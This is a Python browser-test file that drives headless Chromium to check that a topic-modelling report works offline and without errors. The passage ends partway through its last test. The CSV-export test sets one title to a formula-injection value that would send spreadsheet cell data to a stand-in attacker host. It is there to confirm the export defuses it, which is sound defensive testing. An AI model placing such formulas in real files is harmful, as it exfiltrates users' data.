"""The report in a real browser: headless Chromium driven over the DevTools protocol.

No extra dependency: Chromium is started with `--remote-debugging-pipe` and spoken to over
two pipes (file descriptors 3 and 4, NUL-separated JSON), which is what Puppeteer does.
The tests skip when Chromium is missing (the CI script installs Debian's `chromium`).

Each test opens pages from a report rendered from synthetic tables (report_sample),
logs every network request, console message and exception, and looks at the DOM. Screenshots
go to tests/_screenshots/ (git-ignored). Run this file directly to screenshot a report folder:

    python tests/test_report_browser.py results/report docs/img/report-seeds.png
"""

from __future__ import annotations

import base64
import dataclasses
import json
import os
import select
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from urllib.parse import unquote, urlparse

import pytest

from papertopics.report.registry import page_names

PAGE_NAMES = page_names()

REPO = Path(__file__).resolve().parents[1]
SCREENSHOTS = REPO / "tests" / "_screenshots"
CHROMIUM = os.environ.get("PAPERTOPICS_CHROMIUM", "/usr/bin/chromium")
CHROMIUM_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-default-apps",
    "--disable-extensions",
    "--mute-audio",
    "--hide-scrollbars",
]
NO_PLOTLY = ("index", "changes", "pinned", "fields")  # pages of tables only: they never load plotly.js
# pages with nothing to show for a listing without dates (the samples): one line, no plotly.js,
# and no link in the navigation bar (report.described)
UNDATED = ("timeline", "thematic", "countries")  # countries: no affiliations either
# A page drawn later than this is broken (a loop, a file waited for in vain), not slow: how fast
# pages open is measured by bench/report_size.py (docs/report.md), not asserted here, because this
# machine's speed varies by the hour (the same 3,584-document map: 1.5 to 3.6 s on one day).
HANG_S = 15.0
# Seconds from navigation start to "figures drawn", per report and page; checked by the last test.
TIMINGS: dict[str, dict[str, float]] = {}


# ---------------------------------------------------------------- DevTools over pipes


class Chromium:
    """One headless Chromium process; `page()` opens a tab with network and console logging."""

    def __init__(self, executable: str = CHROMIUM, width: int = 1400, height: int = 900):
        self.profile = tempfile.mkdtemp(prefix="papertopics-chromium-")
        self.width, self.height = width, height
        commands_read, self._commands = os.pipe()
        self._replies, replies_write = os.pipe()

        def plumbing():  # in the child: the protocol's fixed descriptors, 3 (commands) and 4 (replies)
            import fcntl

            high_in = fcntl.fcntl(commands_read, fcntl.F_DUPFD, 10)
            high_out = fcntl.fcntl(replies_write, fcntl.F_DUPFD, 10)
            os.dup2(high_in, 3)
            os.dup2(high_out, 4)

        self.process = subprocess.Popen(
            [
                executable,
                *CHROMIUM_FLAGS,
                f"--user-data-dir={self.profile}",
                "--remote-debugging-pipe",
                f"--window-size={width},{height}",
                "about:blank",
            ],
            pass_fds=(3, 4),
            preexec_fn=plumbing,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
        )
        os.close(commands_read)
        os.close(replies_write)
        self._buffer = b""
        self._next_id = 0
        self.events: list[dict] = []
        self.send("Browser.getVersion", timeout=60)

    def send(self, method: str, params: dict | None = None, session: str | None = None, timeout: float = 30):
        self._next_id += 1
        message = {"id": self._next_id, "method": method, "params": params or {}}
        if session:
            message["sessionId"] = session
        os.write(self._commands, json.dumps(message).encode() + b"\0")
        deadline = time.monotonic() + timeout
        while True:
            reply = self._receive(deadline - time.monotonic())
            if reply.get("id") == message["id"]:
                if "error" in reply:
                    raise RuntimeError(f"{method}: {reply['error']}")
                return reply.get("result", {})

    def _receive(self, timeout: float) -> dict:
        while b"\0" not in self._buffer:
            ready, _, _ = select.select([self._replies], [], [], max(0.0, timeout))
            if not ready:
                raise TimeoutError("no reply from Chromium")
            chunk = os.read(self._replies, 1 << 20)
            if not chunk:
                raise EOFError("Chromium closed the pipe: " + self.process.stderr.read().decode()[-2000:])
            self._buffer += chunk
        raw, self._buffer = self._buffer.split(b"\0", 1)
        message = json.loads(raw)
        if "method" in message:
            self.events.append(message)
        return message

    def pump(self, seconds: float = 0.0) -> None:
        """Collect the events that arrive within `seconds`."""
        deadline = time.monotonic() + seconds
        while True:
            try:
                self._receive(max(0.0, deadline - time.monotonic()))
            except TimeoutError:
                return

    def page(self) -> Page:
        target = self.send("Target.createTarget", {"url": "about:blank"})["targetId"]
        session = self.send("Target.attachToTarget", {"targetId": target, "flatten": True})["sessionId"]
        return Page(self, target, session)

    def close(self) -> None:
        try:
            self.send("Browser.close", timeout=5)
        except Exception:  # it may already be gone
            pass
        try:
            self.process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()
        for fd in (self._commands, self._replies):
            try:
                os.close(fd)
            except OSError:
                pass
        shutil.rmtree(self.profile, ignore_errors=True)


class Page:
    def __init__(self, browser: Chromium, target: str, session: str):
        self.browser, self.target, self.session = browser, target, session
        for domain in ("Page", "Runtime", "Network", "Log"):
            self.call(f"{domain}.enable")
        self.call(
            "Emulation.setDeviceMetricsOverride",
            {"width": browser.width, "height": browser.height, "deviceScaleFactor": 1, "mobile": False},
        )
        self.first_event = len(browser.events)

    def call(self, method: str, params: dict | None = None, timeout: float = 30):
        return self.browser.send(method, params, session=self.session, timeout=timeout)

    def _events(self, *methods: str) -> list[dict]:
        return [
            event["params"]
            for event in self.browser.events[self.first_event :]
            if event.get("sessionId") == self.session and event["method"] in methods
        ]

    @property
    def requests(self) -> list[str]:
        return [params["request"]["url"] for params in self._events("Network.requestWillBeSent")]

    @property
    def errors(self) -> list[str]:
        """Console errors, uncaught exceptions and browser-side errors (CSP violations included)."""
        found = []
        for params in self._events("Runtime.consoleAPICalled"):
            if params["type"] in ("error", "assert"):
                found.append(
                    "console: "
                    + " ".join(str(arg.get("value", arg.get("description", ""))) for arg in params["args"])
                )
        for params in self._events("Runtime.exceptionThrown"):
            details = params["exceptionDetails"]
            found.append(
                "exception: " + details.get("exception", {}).get("description", details.get("text", ""))
            )
        for params in self._events("Log.entryAdded"):
            if params["entry"]["level"] == "error":
                found.append(f"{params['entry']['source']}: {params['entry']['text']}")
        return found

    def evaluate(self, expression: str, timeout: float = 30):
        result = self.call(
            "Runtime.evaluate",
            {"expression": expression, "returnByValue": True, "awaitPromise": True},
            timeout=timeout,
        )
        if "exceptionDetails" in result:
            raise RuntimeError(
                f"{expression[:80]}: {result['exceptionDetails'].get('text')} "
                f"{result['exceptionDetails'].get('exception', {}).get('description', '')}"
            )
        return result["result"].get("value")

    def open(self, url: str, timeout: float = 30) -> float:
        """Navigate and wait until the page's script says it is drawn; returns seconds from
        navigation start to ready, as the page itself measured it."""
        self.first_event = len(self.browser.events)
        self.call("Page.navigate", {"url": url})
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            state = self.evaluate(
                "document.readyState === 'complete' && "
                "document.documentElement.getAttribute('data-ready') === '1'"
            )
            if state:
                break
            self.browser.pump(0.05)
        else:
            raise TimeoutError(f"{url} not ready after {timeout} s; errors: {self.errors}")
        self.browser.pump(0.1)
        return float(self.evaluate("Number(document.documentElement.getAttribute('data-ready-ms'))")) / 1000

    def search(self, query: str) -> None:
        """Type `query` into the document map's search box and press Enter."""
        self.evaluate(
            "(q => { const s = document.getElementById('search'); s.value = q;"
            f" s.dispatchEvent(new KeyboardEvent('keydown', {{key: 'Enter'}})); }})({json.dumps(query)})"
        )

    def wait_for(self, expression: str, timeout: float = 10):
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            value = self.evaluate(expression)
            if value:
                return value
            self.browser.pump(0.05)
        raise TimeoutError(expression)

    def screenshot(self, path: Path, full_page: bool = False, max_height: int = 2600) -> Path:
        params: dict = {"format": "png"}
        if full_page:
            height = min(int(self.evaluate("document.documentElement.scrollHeight")), max_height)
            params.update(
                captureBeyondViewport=True,
                clip={"x": 0, "y": 0, "width": self.browser.width, "height": height, "scale": 1},
            )
        data = self.call("Page.captureScreenshot", params, timeout=60)["data"]
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(base64.b64decode(data))
        return path

    def type_text(self, selector: str, text: str) -> None:
        self.evaluate(
            f"(() => {{ const el = document.querySelector({json.dumps(selector)}); el.focus(); "
            f"el.select && el.select(); }})()"
        )
        self.call("Input.insertText", {"text": text})

    def press_enter(self) -> None:
        for kind in ("keyDown", "keyUp"):
            self.call(
                "Input.dispatchKeyEvent",
                {"type": kind, "key": "Enter", "code": "Enter", "windowsVirtualKeyCode": 13},
            )

    def click(self, x: float, y: float) -> None:
        self.call("Input.dispatchMouseEvent", {"type": "mouseMoved", "x": x, "y": y})
        for kind in ("mousePressed", "mouseReleased"):
            self.call(
                "Input.dispatchMouseEvent", {"type": kind, "x": x, "y": y, "button": "left", "clickCount": 1}
            )

    def close(self) -> None:
        self.browser.send("Target.closeTarget", {"targetId": self.target})


def local_only(requests: list[str], folder: Path) -> list[str]:
    """The requests that are not a file inside `folder` (should be none).

    `data:` and `blob:` URLs are content the page made itself (Plotly draws a heatmap as a
    data: image); they never leave the machine.
    """
    folder = folder.resolve()
    bad = []
    for url in requests:
        parsed = urlparse(url)
        if parsed.scheme in ("data", "blob"):
            continue
        if parsed.scheme != "file":
            bad.append(url)
            continue
        path = Path(unquote(parsed.path)).resolve()
        if folder not in path.parents:
            bad.append(url)
    return bad


# ---------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def browser():
    if not Path(CHROMIUM).exists():
        pytest.skip(
            f"headless Chromium not found at {CHROMIUM} (apt-get install chromium, "
            "or set PAPERTOPICS_CHROMIUM)"
        )
    chromium = Chromium()
    yield chromium
    chromium.close()


def render(tmp_path_factory, name: str, **kwargs):
    from report_sample import sample_inputs

    from papertopics.report import render_report

    hover_chars = kwargs.pop("max_hover_chars", None)
    inputs = sample_inputs(**kwargs)
    if hover_chars:
        inputs = dataclasses.replace(inputs, max_hover_chars=hover_chars)
    folder = tmp_path_factory.mktemp(name) / "report"
    render_report(inputs, folder)
    return inputs, folder


@pytest.fixture(scope="module")
def small_report(tmp_path_factory):
    return render(tmp_path_factory, "small", n_documents=80, n_topics=6, listings=("alpha", "beta", "gamma"))


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    return render(
        tmp_path_factory,
        "hostile",
        n_documents=40,
        n_topics=4,
        hostile=True,
        with_titles=False,
        max_hover_chars=60,
    )


@pytest.fixture(scope="module")
def large_report(tmp_path_factory):
    # NeurIPS 2023's size: 3,584 abstracts of ~180 words, 40 topics.
    return render(
        tmp_path_factory,
        "large",
        n_documents=3584,
        n_topics=40,
        abstract_words=180,
        listings=("neurips2023",),
        outlier_share=0.3,
    )


def open_page(browser, folder: Path, name: str, fragment: str = "") -> tuple[Page, float]:
    page = browser.page()
    seconds = page.open((folder / f"{name}.html").resolve().as_uri() + fragment)
    return page, seconds


def check_no_hang(timings: dict[str, float]) -> None:
    """Every page drawn within HANG_S; the times are printed for the record."""
    print("page load seconds:", json.dumps({name: round(seconds, 2) for name, seconds in timings.items()}))
    hung = {name: round(seconds, 2) for name, seconds in timings.items() if seconds >= HANG_S}
    assert not hung, f"pages drawn only after {HANG_S} s: {hung}"


def count_points(page) -> int:
    return page.evaluate("""(() => { const gd = document.getElementById('figure');
        return gd.data.filter(t => !(t.meta && t.meta.role === 'matches'))
                      .reduce((n, t) => n + Array.from(t.x).filter(v => v !== null).length, 0); })()""")


# The box of each name's text as drawn (a Range over it, not the element, which a fixed width
# could make narrower than its text).
LABEL_BOXES = """Array.from(document.querySelectorAll('#map-labels .map-label')).map(e => {
    const range = document.createRange();
    range.selectNodeContents(e);
    const r = range.getBoundingClientRect();
    return {kind: e.classList.contains('region') ? 'region' : 'topic', text: e.textContent,
            topic: e.dataset.topic === undefined ? null : Number(e.dataset.topic),
            x0: r.left, y0: r.top, x1: r.right, y1: r.bottom}; })"""


def label_boxes(page) -> list[dict]:
    return page.evaluate(LABEL_BOXES)


def overlapping(boxes: list[dict]) -> list[tuple[str, str]]:
    """Pairs of name boxes (as drawn) that overlap by more than a pixel."""
    pairs = []
    for i, a in enumerate(boxes):
        for b in boxes[i + 1 :]:
            if (
                min(a["x1"], b["x1"]) - max(a["x0"], b["x0"]) > 1
                and min(a["y1"], b["y1"]) - max(a["y0"], b["y0"]) > 1
            ):
                pairs.append((a["text"], b["text"]))
    return pairs


def zoom(page, factor: float, topic: int | None = None) -> None:
    """Zoom the map by `factor` around a topic's name anchor (or the centre), as the + button would."""
    page.evaluate(f"""(async () => {{
        const gd = document.getElementById('figure'), xa = gd._fullLayout.xaxis,
            ya = gd._fullLayout.yaxis;
        const data = JSON.parse(document.getElementById('report-data').textContent).docs;
        const t = data.topics.find(t => t.topic === {json.dumps(topic)});
        const cx = t ? t.x : (xa.range[0] + xa.range[1]) / 2,
            cy = t ? t.y : (ya.range[0] + ya.range[1]) / 2;
        const hx = (xa.range[1] - xa.range[0]) / {factor} / 2,
            hy = (ya.range[1] - ya.range[0]) / {factor} / 2;
        await Plotly.relayout(gd, {{'xaxis.range': [cx - hx, cx + hx],
            'yaxis.range': [cy - hy, cy + hy]}});
        await new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r))); }})()""")


# ---------------------------------------------------------------- tests


@pytest.mark.browser
@pytest.mark.parametrize("name", PAGE_NAMES)
def test_every_page_opens_offline_without_errors(browser, small_report, name):
    inputs, folder = small_report
    page, seconds = open_page(browser, folder, name)
    try:
        page.screenshot(SCREENSHOTS / f"small-{name}.png", full_page=name != "documents")
        assert page.errors == [], page.errors
        assert local_only(page.requests, folder) == [], page.requests
        assert f"file://{folder.resolve()}/{name}.html" in {unquote(url) for url in page.requests}
        # plotly.js is one file beside the pages, fetched from there, never inlined.
        plotly_requests = [url for url in page.requests if url.endswith("/plotly.min.js")]
        assert len(plotly_requests) == (0 if name in NO_PLOTLY + UNDATED else 1)
        nav = page.evaluate("Array.from(document.querySelectorAll('nav a')).map(a => a.getAttribute('href'))")
        assert nav == [
            f"{page_name}.html"
            for page_name in (
                "index",
                "documents",
                "listings",
                "changes",
                "intertopic",
                "barchart",
                "hierarchy",
                "heatmap",
                "pinned",
                "fields",  # the Data page: what every listing holds
            )
        ]
        if name not in NO_PLOTLY + UNDATED:
            assert page.evaluate("document.querySelectorAll('#figure .main-svg').length") >= 1
        TIMINGS.setdefault("80 documents", {})[name] = seconds
    finally:
        page.close()


@pytest.mark.browser
def test_over_time_and_thematic_map_of_a_dated_listing_draw_offline(browser, tmp_path):
    """A listing with years, venues and authors (report_sample.dated_inputs): Over time draws one
    topics x periods heatmap and names the rising and falling ones, the Thematic map a bubble per topic,
    both linked from the navigation bar; the cards show venues and authors."""
    from report_sample import dated_inputs

    from papertopics.report import render_report

    folder = tmp_path / "report"
    render_report(dated_inputs(300), folder)
    for name, traces in (("timeline", 1), ("thematic", 1)):
        page, _ = open_page(browser, folder, name)
        try:
            page.screenshot(SCREENSHOTS / f"dated-{name}.png", full_page=True)
            assert page.errors == [] and local_only(page.requests, folder) == []
            nav = page.evaluate("Array.from(document.querySelectorAll('nav a')).map(a => a.textContent)")
            assert nav[-3:] == ["Over time", "Thematic map", "Data"]  # no affiliations: no Countries
            assert page.evaluate("document.getElementById('figure').data.length") == traces
            assert page.evaluate("document.querySelectorAll('#figure .main-svg').length") >= 1
            if name == "timeline":
                statuses = page.evaluate(
                    "Array.from(document.querySelectorAll('.trends-table tr[data-status]'))"
                    ".map(r => [r.dataset.topic, r.dataset.status])"
                )
                assert statuses[:2] == [["0", "rising"], ["1", "falling"]]
        finally:
            page.close()
    page, _ = open_page(browser, folder, "index")
    try:
        venues = page.evaluate("document.querySelector('#topic-0 dd.venues').textContent")
        assert "Journal of Alpha" in venues and "Beta Letters" in venues
    finally:
        page.close()


@pytest.mark.browser
def test_the_listings_page_reads_could_be_chance_unless_the_change_is_significant(browser, tmp_path):
    """Two listings (test_trend_verdicts.two_listing_inputs): the rows of "Rising and falling
    topics" as Chromium shows them say "clear" only for a significant change (q < 0.05) and
    "could be chance" for the others (row.clear once read dict.clear: every row was clear)."""
    from test_trend_verdicts import two_listing_inputs

    from papertopics.report import render_report

    inputs, trends = two_listing_inputs()
    folder = tmp_path / "report"
    render_report(inputs, folder)
    page, _ = open_page(browser, folder, "listings")
    try:
        page.screenshot(SCREENSHOTS / "listings-trends.png", full_page=True)
        assert page.errors == []
        rows = page.evaluate(
            "Array.from(document.querySelectorAll('.trends-table tr[data-topic]'))"
            ".map(r => [Number(r.dataset.topic), r.cells[6].innerText])"
        )
        expected = dict(zip(trends["topic"].astype(int), trends["status"]))
        assert len(rows) == len(expected)
        for topic, text in rows:
            assert text.startswith("clear" if expected[topic] != "steady" else "could be chance"), (
                topic,
                text,
            )
        assert sum(text.startswith("could be chance") for _, text in rows) == 3
    finally:
        page.close()


@pytest.mark.browser
def test_thematic_map_labels_do_not_overlap_as_drawn(browser, tmp_path):
    """14 themes, most in one corner (test_thematic._crowded, as a WoS phage export's map): the
    labels as Chromium draws them overlap neither each other nor the quadrant names."""
    from report_sample import dated_inputs
    from test_thematic import _crowded

    from papertopics.report import render_report

    inputs = dated_inputs(200)
    inputs.described["thematic"] = _crowded().astype(str)
    folder = tmp_path / "report"
    render_report(inputs, folder)
    page, _ = open_page(browser, folder, "thematic")
    try:
        page.screenshot(SCREENSHOTS / "thematic-crowded.png", full_page=True)
        boxes = page.evaluate(
            "Array.from(document.querySelectorAll('#figure g.annotation-text-g text')).map(e => {"
            " const r = e.getBoundingClientRect();"
            " return [r.left, r.top, r.right, r.bottom, e.textContent]; })"
        )
        assert len(boxes) == 14 + 4  # a label per theme, a name per quadrant
        for i, a in enumerate(boxes):
            for b in boxes[i + 1 :]:
                assert min(a[2], b[2]) <= max(a[0], b[0]) or min(a[3], b[3]) <= max(a[1], b[1]), (a, b)
    finally:
        page.close()


@pytest.mark.browser
def test_the_map_is_coloured_by_year_or_venue_and_the_years_brush_filters_it(browser, tmp_path):
    """Colour by: year (a ramp, its legend from the first to the last year) and journal (a swatch
    per journal); dragging across the years' histogram keeps the papers of those years only, and
    Reset brings back the topics' colours and every point; `journal:`, `venue:` and `author:`
    search that column alone."""
    from report_sample import dated_inputs

    from papertopics.report import render_report

    inputs = dated_inputs(300)
    folder = tmp_path / "report"
    render_report(inputs, folder)
    page, _ = open_page(browser, folder, "documents")
    figure = "document.getElementById('figure')"
    try:
        options = page.evaluate("Array.from(document.querySelectorAll('#color-by option')).map(o => o.value)")
        assert options == ["topic", "year", "journal"]
        colour = (
            "(v => { const s = document.getElementById('color-by'); s.value = v;"
            " s.dispatchEvent(new Event('change')); })"
        )
        page.evaluate(f"{colour}('year')")
        page.wait_for(f"{figure}.dataset.colour === 'year'")
        assert page.evaluate("document.getElementById('map-legend').textContent").split() == [
            "year:",
            "2015",
            "2024",
        ]
        colours = page.evaluate(f"{figure}.data.filter(t => t.meta && t.meta.topic === 0)[0].marker.color")
        assert isinstance(colours, list) and len(set(colours)) > 3  # one colour per year, not the topic's
        page.evaluate(f"{colour}('journal')")
        legend = page.evaluate(
            "Array.from(document.querySelectorAll('#map-legend .legend-item')).map(e => e.textContent)"
        )
        assert sorted(legend) == [
            "Beta Letters",
            "Gamma Reviews",
            "Journal of Alpha",
        ]  # no "other": 3 journals
        page.evaluate(
            "document.getElementById('date-histogram')"
            ".emit('plotly_selected', {range: {x: [2019.6, 2024.4]}})"
        )
        wanted = int((inputs.documents["year"].astype(int) >= 2020).sum())
        page.wait_for(f"{figure}.dataset.shown === '{wanted}'")
        assert page.evaluate(f"{figure}.dataset.years") == "2020/2024"
        page.evaluate("document.getElementById('reset').click()")
        page.wait_for(
            f"{figure}.dataset.shown === '{len(inputs.documents)}' && {figure}.dataset.colour === 'topic'"
        )
        # a search in one column: the venue (by its own name or as venue:) and the authors
        documents = inputs.documents
        for query, wanted in (
            ("journal:gamma", (documents["journal"] == "Gamma Reviews").sum()),
            ("venue:beta", (documents["journal"] == "Beta Letters").sum()),
            ("author:doe", documents["authors"].str.contains("Doe").sum()),
        ):
            page.search(query)
            page.wait_for(f"{figure}.dataset.matches === '{int(wanted)}'")
        assert page.errors == []
    finally:
        page.close()
    undated, _ = open_page(browser, undated_report(tmp_path), "documents")
    try:
        assert undated.evaluate("document.getElementById('color-by').parentNode.hidden")
        assert undated.evaluate("document.getElementById('date-histogram').hidden")
    finally:
        undated.close()


@pytest.mark.browser
def test_venue_colours_fold_capitals_and_author_and_spaced_columns_are_searched_by_name(browser, tmp_path):
    """Issue 57 case 12: "Colour by" the venue shows "NeurIPS" once however it is capitalised
    (as the cards do); `author:` searches the listing's author column (`author_full_names`, no
    `authors`); a column with spaces is searched by its name with _ ("author_keywords:")."""
    import dataclasses as dc

    from report_sample import sample_inputs

    from papertopics.report import render_report

    inputs = sample_inputs(60, n_topics=3, listings=("alpha",))
    n = len(inputs.documents)
    documents = inputs.documents.assign(
        venue=[("NeurIPS", "neurips", "NEURIPS", "ICML")[i % 4] for i in range(n)],
        **{
            # a mixed corpus: rows without full names (an IEEE listing beside a Scopus one) are
            # searched in their authors
            "author_full_names": [
                "" if i % 7 == 0 else "Doe, Jane" if i % 5 == 0 else "Roe, Rick" for i in range(n)
            ],
            "authors": ["J. Doe" if i % 7 == 0 and i % 2 == 0 else "R. Roe" for i in range(n)],
            "Author Keywords": ["graph neural networks" if i % 6 == 0 else "optics" for i in range(n)],
        },
    )
    folder = tmp_path / "report"
    render_report(dc.replace(inputs, documents=documents), folder)
    page, _ = open_page(browser, folder, "documents")
    figure = "document.getElementById('figure')"
    try:
        page.evaluate(
            "(v => { const s = document.getElementById('color-by'); s.value = v;"
            " s.dispatchEvent(new Event('change')); })('venue')"
        )
        page.wait_for(f"{figure}.dataset.colour === 'venue'")
        legend = page.evaluate(
            "Array.from(document.querySelectorAll('#map-legend .legend-item')).map(e => e.textContent)"
        )
        assert legend == ["NeurIPS", "ICML"]
        for query, wanted in (
            ("author:doe", sum(i % 5 == 0 and i % 7 != 0 or i % 14 == 0 for i in range(n))),
            ("author_keywords:graph", sum(i % 6 == 0 for i in range(n))),
            ("venue:neurips", sum(i % 4 != 3 for i in range(n))),
        ):
            page.search(query)
            page.wait_for(f"{figure}.dataset.matches === '{int(wanted)}'")
        assert page.errors == []
    finally:
        page.close()


def undated_report(tmp_path: Path) -> Path:
    """An undated report (the seeds' kind: no year, no venue) beside the dated one."""
    from report_sample import sample_inputs

    from papertopics.report import render_report

    folder = tmp_path / "undated"
    render_report(sample_inputs(40, n_topics=3, listings=("alpha",)), folder)
    return folder


@pytest.mark.browser
def test_overview_has_a_card_per_topic_and_the_outliers(browser, small_report):
    inputs, folder = small_report
    page, _ = open_page(browser, folder, "index")
    try:
        n_topics = inputs.topics["topic"].ge(0).sum()
        assert page.evaluate("document.querySelectorAll('article.card').length") == n_topics + 1
        assert page.evaluate("document.querySelectorAll('article.card.outlier-card').length") == 1
        assert page.evaluate("document.querySelectorAll('article.card details.rep').length") == 3 * (
            n_topics + 1
        )
        # Expanding a representative abstract shows its whole text.
        first = inputs.documents.set_index("doc_id").loc[
            inputs.topics.set_index("topic").loc[0, "representative_doc_ids"].split(";")[0], "text"
        ]
        text = page.evaluate("""(() => { const d = document.querySelector('#topic-0 details.rep');
            d.open = true; return d.querySelector('.abstract').innerText; })()""")
        assert text == first
        page.screenshot(SCREENSHOTS / "small-index-expanded.png", full_page=True)
        assert page.errors == []
    finally:
        page.close()


@pytest.mark.browser
def test_a_topic_card_downloads_its_papers_as_csv_offline(browser, tmp_path_factory):
    """The card's button builds the CSV from the map's data files (no server); a title that a
    spreadsheet would run as a formula gets a leading apostrophe, quotes and newlines survive."""
    import csv
    import io

    from report_sample import sample_inputs

    from papertopics.report import render_report

    inputs = sample_inputs(n_documents=60, n_topics=3)
    documents = inputs.documents.copy()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    documents.loc[0, "title"] = hostile
    documents.loc[0, "text"] = 'Quotes "inside", commas,\nand a line break. ' + documents.loc[0, "text"]
    inputs = dataclasses.replace(inputs, documents=documents)
    folder = tmp_path_factory.mktemp("csv") / "report"
    render_report(inputs, folder)
    topic = int(documents.loc[0, "topic"])
    page, _ = open_page(browser, folder, "index")
    try:
        text = page.evaluate(f"papertopicsTopicCsv({topic})")
        rows = list(csv.reader(io.StringIO(text)))
        assert rows[0] == ["topic", "name", "doc_id", "title", "url", "abstract"]
        mine = documents[documents["topic"] == topic]
        assert [row[2] for row in rows[1:]] == mine["doc_id"].tolist()
        label = inputs.topics.set_index("topic").loc[topic, "label"]
        assert {(row[0], row[1]) for row in rows[1:]} == {(str(topic), label)}
        first = rows[1 + mine["doc_id"].tolist().index(documents.loc[0, "doc_id"])]
        assert first[3] == "'" + hostile
        assert first[4] == documents.loc[0, "url"]
        assert first[5] == documents.loc[0, "text"]
        # the button itself: it downloads and comes back, with nothing fetched from outside
        button = f"document.querySelector('button[data-csv-topic=\"{topic}\"]')"
        label_before = page.evaluate(f"{button}.textContent")
        assert label_before == f"Download its {len(mine)} papers (CSV)"
        page.evaluate(f"{button}.click()")
        page.wait_for(f"!{button}.disabled && {button}.textContent === {json.dumps(label_before)}")
        assert page.errors == []
        assert local_only(page.requests, folder) == []
    finally:
        page.close()


@pytest.mark.browser
def test_changes_page_lists_every_topic_and_links_to_the_map(browser, small_report):
    inputs, folder = small_report
    page, _ = open_page(browser, folder, "changes")
    try:
        rows = page.evaluate(
            "Array.from(document.querySelectorAll('table.changes-table tbody tr'))"
            ".map(tr => [Number(tr.dataset.topic), tr.dataset.status])"
        )
        expected = sorted(
            zip(inputs.changes["topic"], inputs.changes["status"]), key=lambda r: (r[0] < 0, r[0])
        )
        assert rows == [[int(t), s] for t, s in expected]
        assert rows[-1][0] == -1
        # Links: current topics to the document map, drew-from / went-to ids to their rows.
        links = page.evaluate(
            "Array.from(document.querySelectorAll('table.changes-table a')).map(a => a.getAttribute('href'))"
        )
        current = set(inputs.topics["topic"])
        assert {link for link in links if link.startswith("documents.html")} == {
            f"documents.html#topic={t}" for t in current
        }
        assert all(link.startswith(("documents.html#topic=", "#change-")) for link in links)
        page.screenshot(SCREENSHOTS / "small-changes.png", full_page=True)
        # From the bottom of the page, a "went to" id scrolls up to its row.
        page.evaluate(
            "window.scrollTo(0, document.body.scrollHeight); "
            "Array.from(document.querySelectorAll('a.ref')).at(-1).click()"
        )
        page.wait_for("location.hash.startsWith('#change-')")
        # The row jumped to stops below the sticky navigation bar, not under it.
        assert page.evaluate(
            "parseFloat(getComputedStyle(document.querySelector(location.hash)).scrollMarginTop)"
            " >= document.querySelector('.topbar').offsetHeight"
        )
        assert page.errors == [], page.errors
        assert local_only(page.requests, folder) == []
    finally:
        page.close()


@pytest.mark.browser
def test_document_map_points_search_filter_and_click(browser, small_report):
    inputs, folder = small_report
    documents = inputs.documents
    page, _ = open_page(browser, folder, "documents")
    try:
        assert count_points(page) == len(documents)
        # Outliers are drawn, in grey.
        grey = page.evaluate("""document.getElementById('figure').data
            .filter(t => t.meta && t.meta.topic === -1).map(t => [t.marker.color, t.x.length])""")
        assert grey == [["#a3a3a3", int((documents["topic"] == -1).sum())]]

        # Search: typed into the box like a user; every term must occur.
        query = "diffusion sampling"
        searched = (
            documents[["title", "text", "doc_id", *inputs.extra_columns]].agg("\n".join, axis=1).str.lower()
        )
        expected = int(sum(all(term in text for term in query.split()) for text in searched))
        assert expected > 0
        page.type_text("#search", query)
        page.wait_for(f"document.getElementById('figure').getAttribute('data-matches') === '{expected}'")
        highlighted = page.evaluate("document.getElementById('figure').data.at(-1).x.length")
        assert highlighted == expected
        assert page.evaluate("document.querySelectorAll('#match-list li').length") == min(expected, 100)
        page.screenshot(SCREENSHOTS / "small-documents-search.png")

        # Listing filter: only that listing's documents keep coordinates.
        in_beta = int(documents["listings"].str.split(";").map(lambda names: "beta" in names).sum())
        page.evaluate("""(() => { const s = document.getElementById('listing-filter');
            s.value = '1'; s.dispatchEvent(new Event('change')); })()""")
        page.wait_for(f"document.getElementById('figure').getAttribute('data-shown') === '{in_beta}'")
        assert count_points(page) == in_beta

        # Clicking a point opens its whole abstract in the side panel.
        page.evaluate("document.getElementById('reset').click()")
        page.wait_for(f"document.getElementById('figure').getAttribute('data-shown') === '{len(documents)}'")
        x, y, row = page.evaluate("""(() => {
            const gd = document.getElementById('figure'), layout = gd._fullLayout;
            const trace = gd.data.find(t => t.meta && t.meta.topic === 0);
            const box = gd.getBoundingClientRect();
            return [box.left + layout._size.l + layout.xaxis.l2p(trace.x[0]),
                    box.top + layout._size.t + layout.yaxis.l2p(trace.y[0]), trace.customdata[0]]; })()""")
        page.evaluate("window.scrollTo(0, 0)")
        page.click(x, y)
        page.wait_for(
            f"document.getElementById('figure').getAttribute('data-selected') === "
            f"{json.dumps(documents.loc[row, 'doc_id'])}"
        )
        assert page.evaluate("document.getElementById('doc-text').textContent") == documents.loc[row, "text"]
        page.screenshot(SCREENSHOTS / "small-documents-click.png")
        assert page.errors == [], page.errors
        assert local_only(page.requests, folder) == []
    finally:
        page.close()


@pytest.mark.browser
def test_search_answers_from_the_titles_before_the_abstracts_are_read(browser, small_report, tmp_path):
    """On a big listing the abstracts take seconds to read: a search shows the documents whose
    title (headline) matches at once. Here the abstracts' files are missing altogether."""
    inputs, folder = small_report
    copy = tmp_path / "report"
    shutil.copytree(folder, copy)
    for path in (copy / "data").glob("docs-*.js"):
        path.unlink()
    documents = inputs.documents
    titles = documents["title"].str.lower()
    found = {
        word: int(titles.str.contains(word, regex=False).sum()) for word in set(" ".join(titles).split())
    }
    word, expected = max(
        ((w, k) for w, k in found.items() if k < len(documents) / 2 and len(w) > 3), key=lambda x: x[1]
    )
    assert expected > 1
    page, _ = open_page(browser, copy, "documents")
    try:
        page.type_text("#search", word)
        page.wait_for(f"document.getElementById('figure').getAttribute('data-matches') === '{expected}'")
        assert page.evaluate("document.getElementById('figure').data.at(-1).x.length") == expected
